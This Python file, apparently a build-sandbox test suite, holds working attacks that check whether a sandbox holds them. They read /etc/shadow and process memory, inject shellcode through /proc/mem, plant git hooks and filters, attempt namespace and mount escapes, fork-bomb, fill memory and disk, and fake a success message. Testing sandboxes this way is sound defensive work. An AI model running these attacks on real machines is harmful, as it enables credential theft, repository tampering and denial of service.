"""The attacks themselves: committed as ``hostile.py`` into the sources, run by a recipe as ``hostile.py NAME ABOUT``.

Each function does what harm it can to the machine that ``ABOUT`` describes (JSON, ``Scene.about``), and returns what
came of it as far as it can tell; nothing when it was kept out. Code 0 says that something did, 1 that nothing. Where
``sandboxed`` is false nothing is done that would not be undone: the machine is real. Runs with the system's Python.
"""

import ctypes
import errno
import json
import mmap
import os
import signal
import socket
import stat
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from typing import Any

About = dict[str, Any]

libc = ctypes.CDLL(None, use_errno=True)
PATCH = b'[core]\n\tfsmonitor = touch %s\n\thooksPath = %s\n[filter "x"]\n\tsmudge = touch %s\n'
NAMESPACES = {"mounts": 0x20000, "cgroup": 0x2000000, "uts": 0x4000000, "ipc": 0x8000000, "user": 0x10000000,
              "pid": 0x20000000, "net": 0x40000000, "time": 0x80}  # fmt: skip
VSOCK_AND_MKDIR = bytes.fromhex(
    "bf28000000 be01000000 31d2 b829000000 0f05 85c0 7813 488d3d15000000 beff010000 b853000000 0f05"
    "b822000000 0f05 ebf7"
) + b"/tmp/unfiltered\0"  # fmt: skip
INT_80 = bytes.fromhex("53 89f8 89f3 89d1 31d2 cd80 5b c3")
FILLED = 256 << 20


def call(number: int, *arguments: int) -> int:
    """Make a system call; return what it returns, or its error as a negative number."""
    ctypes.set_errno(0)
    libc.syscall.restype = ctypes.c_long
    made: int = libc.syscall(ctypes.c_long(number), *(ctypes.c_ulong(one) for one in arguments))
    return -ctypes.get_errno() if made == -1 else made


def first(tried: Iterator[str]) -> str:
    return next((said for said in tried if said), "")


def opened(path: str, flags: int = os.O_RDONLY) -> str:
    try:
        descriptor = os.open(path, flags)
    except OSError:
        return ""
    os.close(descriptor)
    return f"opened {path}"


# --- reading ----------------------------------------------------------------------------------------------


def reads_secrets(about: About) -> str:
    for path in about["secrets"]:
        with suppress(OSError), open(path) as file:
            print(file.read())
            return f"read {path}"
    return ""


def reads_passwords(_: About) -> str:
    for path in ("/etc/shadow", "/etc/gshadow", "/etc/shadow-"):
        with suppress(OSError), open(path, "rb") as file:
            return f"read {len(file.read())} bytes of {path}"
    return ""


def reads_the_servers_memory(about: About) -> str:
    processes = [about["server"], *about["keepers"], about["victim"]]
    names = ("environ", "mem", "maps", "fd/0", "root/etc/passwd", "cwd/.")
    return first(opened(f"/proc/{pid}/{name}") for pid in processes for name in names)


def guesses_another_slot(about: About) -> str:
    for place in about["other"]:
        with suppress(OSError):
            return f"found {os.listdir(place)}"
        own = os.getcwd()
        for up in ("..", "../..", "../../.."):
            with suppress(OSError):
                found = os.path.join(own, up, "slot-7")
                return f"found {os.listdir(found)}"
    return ""


# --- writing ----------------------------------------------------------------------------------------------


def writes_outside(about: About) -> str:
    places = [about["outside"], "/usr", "/usr/lib", "/etc", "/", "/dev", "/var", "/proc/1", "/proc/sys/kernel", "/run"]
    for place in places if about["sandboxed"] else places[:1]:
        with suppress(OSError):
            os.chmod(place, 0o700)
        try:
            with open(f"{place}/{about['token']}", "w"):
                return f"wrote in {place}"
        except OSError:
            continue
    return ""


def litters_tmp(about: About) -> str:
    for place in ("/tmp", "/var/tmp", "/dev/shm"):
        with suppress(OSError), open(f"{place}/{about['token']}", "w"):
            pass
    return ""


def poisons_the_mirror(about: About) -> str:
    done = ""
    for top, _, files in os.walk(about["mirrors"]):
        for name in files:
            with suppress(OSError), open(f"{top}/{name}", "ab") as file:
                file.write(b"#")
                done = f"wrote {top}/{name}"
    return done


def poisons_its_packs(_: About) -> str:
    done = ""
    for top in (".git/objects/pack", ".git/objects/pack/."):
        for name in os.listdir(top):
            with suppress(OSError):
                os.chmod(f"{top}/{name}", 0o666)
            with suppress(OSError), open(f"{top}/{name}", "r+b") as file:
                file.write(b"????")
                done = f"wrote {name}"
            with suppress(OSError):
                os.link(f"{top}/{name}", f"other-{name}")
                os.chmod(f"other-{name}", 0o666)
                done = f"linked {name}"
    return done


def rewrites_git(about: About) -> str:
    mark = f"{about['outside']}/{about['token']}"
    hook = f"#!/bin/sh\ntouch {mark}\n"
    settings = PATCH % (mark.encode(), (os.getcwd() + "/hooks").encode(), mark.encode())
    for place in (".git/hooks", "hooks"):
        os.makedirs(place, exist_ok=True)
        for name in (
            "post-checkout",
            "post-index-change",
            "fsmonitor-watchman",
            "reference-transaction",
            "pre-auto-gc",
        ):
            with open(f"{place}/{name}", "w") as file:
                file.write(hook)
            os.chmod(f"{place}/{name}", 0o755)
    with open(".git/config", "ab") as settings_file:
        settings_file.write(settings)
    for name, text in {
        "objects/info/alternates": about["mirrors"],
        "info/attributes": "* filter=x\n",
        "commondir": "../elsewhere",
        "packed-refs": f"{'0' * 40} refs/tags/hostile\n",
        "HEAD": "ref: refs/heads/hostile\n",
        "shallow": "0" * 40 + "\n",
        "index": "DIRC",
    }.items():
        os.makedirs(os.path.dirname(f".git/{name}"), exist_ok=True)
        with suppress(OSError):
            os.unlink(f".git/{name}")
        with open(f".git/{name}", "w") as file:
            file.write(text)
    with open(".gitattributes", "w") as file:
        file.write("* filter=x\n")
    return ""


def replaces_git(about: About) -> str:
    os.rename(".git", "was-git")
    os.symlink(about["mirrors"], ".git")
    os.unlink("main.c")
    os.symlink(about["secrets"][0], "main.c")
    return ""


def replaces_git_by_its_own(about: About) -> str:
    os.rename(".git/objects", ".git/elsewhere")
    os.makedirs(".git/objects/pack")
    for name in ("pack-1.pack", "pack-1.idx", "multi-pack-index"):
        with open(f".git/objects/pack/{name}", "wb") as file:
            file.write(b"PACK" + bytes(64))
    os.mkfifo(".git/objects/pack/pack-2.pack")
    os.unlink(".git/HEAD")
    os.mkfifo(".git/HEAD")
    os.unlink(".git/config")
    os.symlink(about["secrets"][0], ".git/config")
    os.mkdir("main.c.d")
    os.chmod("main.c.d", 0)
    os.chmod(".", 0)
    return ""


def fills_memory_files(about: About) -> str:
    """Fill whatever of memory can be written to as files."""
    block = bytes(1 << 20)
    for place in ("/dev/shm", "/proc/1", "/dev", "/"):
        with suppress(OSError):
            os.chmod(place, 0o700)
        written = 0
        with suppress(OSError), open(f"{place}/{about['token']}", "wb", buffering=0) as file:
            while written < FILLED and file.write(block):
                written += len(block)
        with suppress(OSError):
            os.unlink(f"{place}/{about['token']}")
        if written >= FILLED:
            return f"wrote {written} bytes into {place}"
    return ""


def fills_shared_memory(_: About) -> str:
    """Fill segments of shared memory, which are there without any process that has them."""
    libc.shmat.restype, size = ctypes.c_void_p, 16 << 20
    made: list[int] = []
    while len(made) * size < FILLED and (segment := libc.shmget(0, size, 0o1600)) != -1:
        place = libc.shmat(segment, None, 0)
        ctypes.memset(place, 1, size)
        libc.shmdt(ctypes.c_void_p(place))
        made.append(segment)
    for segment in made:
        libc.shmctl(segment, 0, None)
    return f"filled {len(made)} segments" if len(made) * size >= FILLED else ""


# --- sockets ----------------------------------------------------------------------------------------------


def connects(about: About) -> str:
    places: list[tuple[int, Any]] = [
        (socket.AF_INET, ("127.0.0.1", about["port"])),
        (socket.AF_UNIX, f"\0{about['token']}"),
        (socket.AF_UNIX, about["door"]),
    ]
    for family, address in places:
        with suppress(OSError), socket.socket(family) as one:
            one.connect(address)
            return f"came to {address!r}"
    return ""


def listens(about: About) -> str:
    with socket.socket() as one:
        one.bind(("0.0.0.0", about["free_port"]))
        one.listen()
        print("listening", flush=True)
        one.settimeout(0.2 if about["sandboxed"] else 60)
        with suppress(OSError):
            one.accept()
            return "somebody came"
    return ""


def makes_odd_sockets(_: About) -> str:
    for family, kind in ((40, socket.SOCK_STREAM), (socket.AF_PACKET, socket.SOCK_RAW), (38, socket.SOCK_SEQPACKET)):
        with suppress(OSError), socket.socket(family, kind):
            return f"made a socket of kind {family}"
    with suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_RAW, 1):
        return "made a raw socket"
    return ""


# --- other processes --------------------------------------------------------------------------------------


def kills(about: About) -> str:
    if about["sandboxed"]:
        for pid in (about["server"], *about["keepers"], 1):
            with suppress(OSError):
                os.kill(pid, signal.SIGKILL)
                if pid != 1:
                    return f"killed {pid}"
    with suppress(OSError):
        os.kill(about["victim"], signal.SIGKILL)
        return "killed another program"
    return ""


def kills_all(about: About) -> str:
    if about["sandboxed"]:
        for pid in range(2, 40):
            if pid != os.getpid():
                with suppress(OSError):
                    os.kill(pid, signal.SIGKILL)
        with suppress(OSError):
            os.kill(-1, signal.SIGKILL)
    time.sleep(0.2)
    return ""


def traces(about: About) -> str:
    pid = about["victim"]
    if call(101, 16, pid, 0, 0) == 0:
        call(101, 17, pid, 0, 0)
        return "traced another program"
    if call(101, 0, 0, 0, 0) == 0:
        return "may be traced"
    buffer = ctypes.create_string_buffer(8)
    local = struct.pack("PN", ctypes.addressof(buffer), 8)
    place = ctypes.addressof(ctypes.c_char.from_buffer(bytearray(local)))
    if call(310, os.getppid(), place, 1, place, 1, 0) not in (-errno.EPERM, -errno.ENOSYS):
        return "may read others' memory"
    return "may take others' descriptors" if call(438, 0, 0, 0) not in (-errno.EPERM, -errno.ENOSYS) else ""


def writes_into_the_holder(_: About) -> str:
    """Have the process that holds the sandbox do what a filter forbids: make a socket, and then a directory."""
    with suppress(OSError, ValueError):
        with open("/proc/2/syscall") as file:
            place = int(file.read().split()[-1], 16) - 2
        with open("/proc/2/mem", "r+b", buffering=0) as memory:
            memory.seek(place)
            memory.write(VSOCK_AND_MKDIR)
        os.kill(2, signal.SIGSTOP)  # its call is made again when it goes on: now it is another one
        os.kill(2, signal.SIGCONT)
        time.sleep(0.2)
    for name in ("mem", "environ", "root/etc/passwd", "fd/0"):
        said = opened(f"/proc/2/{name}")
        if said:
            return said
    return "a process has no filter" if os.path.isdir("/tmp/unfiltered") else ""


def goes_before_others(_: About) -> str:
    with suppress(OSError):
        os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))
        os.sched_setscheduler(0, os.SCHED_OTHER, os.sched_param(0))
        return "has priority over all of the machine"
    with suppress(OSError):
        os.setpriority(os.PRIO_PROCESS, 0, -5)
        return "has a better priority"
    return ""


def shares_memory(about: About) -> str:
    segment = libc.shmget(about["memory_key"], 0, 0)
    if segment == -1:
        return ""
    libc.shmat.restype = ctypes.c_void_p
    ctypes.memmove(libc.shmat(segment, None, 0), b"hostile", 7)
    return "wrote shared memory"


def leaves_daemons(about: About) -> str:
    for number in range(3):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for signum in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                    signal.signal(signum, signal.SIG_IGN)
                os.closerange(0, 100)
                os.execv(
                    "/bin/sh", ["sh", "-c", f"trap '' TERM; while :; do sleep {number + 1}; done # {about['token']}"]
                )
            os._exit(0)
    return ""


def ignores_requests(about: About) -> str:
    for signum in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
        with suppress(OSError):
            signal.signal(signum, signal.SIG_IGN)
    subprocess.Popen(["/bin/sh", "-c", f"trap '' TERM HUP INT; while :; do sleep 1; done # {about['token']}"])
    while True:
        time.sleep(1)


# --- ways out ---------------------------------------------------------------------------------------------


def mounts(about: About) -> str:
    os.makedirs("place", exist_ok=True)
    here = os.path.join(os.getcwd(), "place").encode()
    for source, kind, flags in ((b"none", b"tmpfs", 0), (b"/usr", None, 4096), (b"proc", b"proc", 0)):
        if libc.mount(source, here, kind, ctypes.c_ulong(flags), None) == 0:
            libc.umount2(here, 2)
            return f"mounted {source!r}"
    if about["sandboxed"]:
        for path in (b"/proc/1", b"/etc", b"/tmp", b"/dev/shm", os.getcwd().encode() + b"/.git/objects/pack"):
            if libc.umount2(path, 2) == 0:
                return f"unmounted {path!r}"
        if libc.mount(None, b"/", None, ctypes.c_ulong(32 | 4096), None) == 0:
            return "made the system writable"
    if call(430, ctypes.addressof(ctypes.create_string_buffer(b"tmpfs")), 0) >= 0:
        return "opened a file system"
    if call(161, ctypes.addressof(ctypes.create_string_buffer(here))) == 0:
        return "changed its root"
    return ""


def unshares(_: About) -> str:
    for name, flag in NAMESPACES.items():
        child = os.fork()
        if child == 0:
            os._exit(1 if call(272, flag) == 0 else 0)
        if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 1:
            return f"made a namespace of {name}"
    done = subprocess.run(["bwrap", "--unshare-all", "--bind", "/", "/", "true"], capture_output=True, check=False)
    return "made a sandbox of its own" if done.returncode == 0 else ""


def clones(_: About) -> str:
    for flag in NAMESPACES.values():
        child = call(56, flag | signal.SIGCHLD, 0, 0, 0, 0)
        if child == 0:
            os._exit(0)
        if child > 0:
            os.waitpid(child, 0)
            return "cloned into a namespace"
    arguments = ctypes.create_string_buffer(struct.pack("8Q", NAMESPACES["user"], 0, 0, 0, signal.SIGCHLD, 0, 0, 0))
    child = call(435, ctypes.addressof(arguments), 64)
    if child == 0:
        os._exit(0)
    if child > 0:
        os.waitpid(child, 0)
        return "cloned into a namespace by the newer call"
    for name in ("user", "mnt", "net", "pid"):
        with suppress(OSError):
            descriptor = os.open(f"/proc/self/ns/{name}", os.O_RDONLY)
            if call(308, descriptor, 0) not in (-errno.EPERM, -errno.ENOSYS, -errno.EINVAL):
                return f"joined a namespace ({name})"
    return ""


def calls_as_older_programs(_: About) -> str:
    code = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    low = mmap.mmap(-1, mmap.PAGESIZE, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40)
    code.write(INT_80)
    place = ctypes.addressof(ctypes.c_char.from_buffer(code))
    old = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_uint, ctypes.c_uint, ctypes.c_uint)(place)
    low.write(struct.pack("=3I", 40, 1, 0))
    words = ctypes.addressof(ctypes.c_char.from_buffer(low))
    for name, number, one, two in (
        ("unshare", 310, NAMESPACES["user"], 0),
        ("setns", 346, 0, 0),
        ("ptrace", 26, 0, 0),
        ("socket", 359, 40, 1),
        ("socketcall", 102, 1, words),
        ("io_uring_setup", 425, 1, words),
        ("keyctl", 288, 0, 0xFFFFFFFD),
    ):
        if old(number, one, two) not in (-errno.EPERM, -errno.ENOSYS):
            return f"may call {name} as a program of 32 bits"
    child = old(120, NAMESPACES["user"] | signal.SIGCHLD, 0)
    if child == 0:
        os._exit(0)
    if child > 0:
        os.waitpid(child, 0)
        return "cloned into a namespace as a program of 32 bits"
    return "may call as x32" if call(0x40000000 | 39) >= 0 else ""


def makes_forbidden_calls(about: About) -> str:
    """Try calls that no compiler needs, with arguments that do nothing where they are allowed."""
    calls = {"bpf": 321, "perf_event_open": 298, "userfaultfd": 323, "io_uring_setup": 425, "keyctl": 250,
             "add_key": 248, "kexec_load": 246, "init_module": 175, "open_by_handle_at": 304, "fanotify_init": 300,
             "quotactl": 179, "iopl": 172, "io_setup": 206, "lookup_dcookie": 212, "move_pages": 279}  # fmt: skip
    if about["sandboxed"]:
        calls |= {"reboot": 169, "swapon": 167, "acct": 163, "settimeofday": 164, "sethostname": 170, "syslog": 103}
    answers = {name: call(number, 0, 0, 0, 0, 0) for name, number in calls.items()}
    return first(f"may call {name}" if said not in (-1, -errno.ENOSYS) else "" for name, said in answers.items())


def types_into_a_terminal(_: About) -> str:
    main, side = os.openpty()
    with suppress(OSError):
        os.close(os.open("/dev/tty", os.O_RDWR))
        return "has a terminal"
    for request in (0x5412, 0x5412 | 1 << 32, 0x541C, 0x541C | 1 << 32):
        text = ctypes.create_string_buffer(b"\x05x")
        ctypes.set_errno(0)
        done = call(16, side, request, ctypes.addressof(text))
        if done != -errno.EPERM:
            return f"may type into a terminal ({request:#x})"
    os.close(main)
    return ""


def writes_its_own_program(_: About) -> str:
    """Try to write the program that runs, by what ``/proc`` says of it, once it does not run any more."""
    child = subprocess.Popen(["/usr/bin/yes"], stdout=subprocess.PIPE)
    path = os.open(f"/proc/{child.pid}/exe", os.O_PATH)
    child.kill()
    child.wait()
    said = opened(f"/proc/self/fd/{path}", os.O_WRONLY)
    return said or first(opened(one, os.O_WRONLY) for one in ("/proc/self/exe", "/proc/1/exe", "/usr/bin/yes"))


def holds_descriptors(about: About) -> str:
    held = {name: os.readlink(f"/proc/self/fd/{name}") for name in os.listdir("/proc/self/fd") if name.isdigit()
            if os.path.exists(f"/proc/self/fd/{name}")}  # fmt: skip
    if set(held) != {"0", "1", "2"}:
        return f"holds {held}"
    with open("/proc/self/fdinfo/0") as file, open("/proc/self/mountinfo") as table:
        mount = next(line.split()[1] for line in file if line.startswith("mnt_id"))
        if about["sandboxed"] and mount not in {line.split()[0] for line in table}:
            return "holds a file of outside"
    return ""


# --- what it delivers -------------------------------------------------------------------------------------


def delivers_a_link(about: About) -> str:
    os.symlink(about["secrets"][0], "made")
    return "linked"


def delivers_through_a_link(about: About) -> str:
    os.symlink(os.path.dirname(about["secrets"][0]), "way")
    return "linked"


def delivers_a_pipe(_: About) -> str:
    os.mkfifo("made")
    return "made a pipe"


def delivers_a_socket(_: About) -> str:
    socket.socket(socket.AF_UNIX).bind("made")
    return "made a socket"


def delivers_a_device(_: About) -> str:
    try:
        os.mknod("made", stat.S_IFBLK | 0o666, os.makedev(254, 0))
    except OSError:
        return ""
    return "made a device"


def delivers_a_terabyte(_: About) -> str:
    with open("made", "wb") as file, suppress(OSError):
        os.truncate(file.fileno(), 1 << 40)
    return "made a long file"


def delivers_a_hard_link(about: About) -> str:
    sources = [*about["secrets"], "/etc/passwd", "/usr/bin/env"]
    sources += [f".git/objects/pack/{name}" for name in os.listdir(".git/objects/pack")]
    for source in sources:
        with suppress(OSError):
            os.link(source, "made")
            return f"linked {source}"
    return ""


# --- without end, but for a bound that is far above what a build may have -------------------------------------


def forks_without_end(about: About) -> str:
    """Start processes until there are ``most``; whoever is told that there are too many tries again."""
    started: list[int] = []
    try:
        while len(started) < about["most"]["processes"]:
            try:
                child = os.fork()
            except OSError:
                time.sleep(0.01)
                continue
            if child == 0:
                time.sleep(600)
                os._exit(0)
            started.append(child)
        return f"started {len(started)} processes"
    finally:
        for pid in started:
            os.kill(pid, signal.SIGKILL)


def keeps_processors_busy(_: About) -> str:
    """Calculate in many processes, each in a session of its own, as if they were many people's."""
    for _number in range(6):
        if os.fork() == 0:
            os.setsid()
            break
    while True:
        pass


def forks_and_ends(_: About) -> str:
    """Start processes that end at once, as many as can be."""
    for _number in range(2):
        if os.fork() == 0:
            break
    while True:
        with suppress(OSError):
            child = os.fork()
            if child == 0:
                os._exit(0)
            os.waitpid(child, 0)


def forks_out_of_sight(about: About) -> str:
    """Leave processes that are never long the same one, each in a session of its own: none can be aimed at."""
    until = time.monotonic() + 60
    for _ in range(3):
        if os.fork() == 0:
            while time.monotonic() < until:
                with suppress(OSError):
                    if os.fork():
                        os._exit(0)
                    os.setsid()
            with open(f"{about['outside']}/{about['token']}", "w"):
                os._exit(0)
    return ""


def fills_memory(about: About) -> str:
    held = [bytearray(b"x" * (1 << 20)) for _ in range(about["most"]["memory"] >> 20)]
    return f"held {len(held)} MiB"


def fills_memory_behind_files(about: About) -> str:
    """Fill memory that no process has in its address space."""
    block = bytes(1 << 20)
    for number in range(about["most"]["memory"] >> 22):
        held = os.memfd_create(f"held-{number}")
        for _ in range(4):
            os.write(held, block)
    time.sleep(1)
    return "held much memory in a file without a name"


def _writes(descriptor: int, size: int) -> None:
    block = b"much" * (1 << 18)
    for _ in range(size >> 20):
        os.write(descriptor, block)
        time.sleep(0.001)


def fills_the_disk(about: About) -> str:
    for number in range(8):
        with open(f"much-{number}", "wb", buffering=0) as file:
            _writes(file.fileno(), about["most"]["disk"] >> 3)
    time.sleep(2)
    return "filled the disk"


def fills_the_disk_by_other_names(about: About) -> str:
    """Write files that have two names, of which each might be taken for the other's."""
    for number in range(8):
        with open(f"much-{number}", "wb", buffering=0) as file:
            os.link(f"much-{number}", f"other-{number}")
            _writes(file.fileno(), about["most"]["disk"] >> 3)
    time.sleep(2)
    return "filled the disk"


def fills_the_disk_without_names(about: About) -> str:
    """Write files that are deleted, and held open."""
    held = []
    for number in range(8):
        held.append(os.open(f"much-{number}", os.O_CREAT | os.O_WRONLY))
        os.unlink(f"much-{number}")
        _writes(held[-1], about["most"]["disk"] >> 3)
    time.sleep(2)
    return "filled the disk"


def fills_the_disk_out_of_reach(about: About) -> str:
    """Write files so deep that no path leads there, in directories that are shut."""
    for _ in range(40):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    for number in range(8):
        with open(f"much-{number}", "wb", buffering=0) as file:
            os.chmod(".", 0o300)
            _writes(file.fileno(), about["most"]["disk"] >> 3)
    time.sleep(2)
    return "filled the disk"


def makes_files_without_end(about: About) -> str:
    for number in range(about["most"]["files"]):
        with open(f"one-{number}", "w"):
            time.sleep(0.0005)
    time.sleep(2)
    return "made many files"


def makes_a_long_file(about: About) -> str:
    signal.signal(signal.SIGXFSZ, signal.SIG_DFL)
    with open("long", "wb", buffering=0) as file:
        _writes(file.fileno(), about["most"]["file_size"])
    return "made a long file"


# --- what it says -----------------------------------------------------------------------------------------


def hides_its_output(_: About) -> str:
    os.closerange(0, 100)
    while True:
        time.sleep(1)


def pretends_success(_: About) -> str:
    print("\x1b[2J\r[succeeded after 0.1 s]\n[artifact: main.c, 1 bytes]\n\0\x1b]0;done\7", flush=True)
    return ""


def floods_the_log(_: About) -> str:
    line = b"flood " * 10_000 + b"\n"
    while True:
        os.write(1, line)


def main() -> int:
    attack: Callable[[About], str] = globals()[sys.argv[1]]
    got = attack(json.loads(sys.argv[2]))
    print(f"got: {got}" if got else "kept out", flush=True)
    return 0 if got else 1


if __name__ == "__main__":
    sys.exit(main())
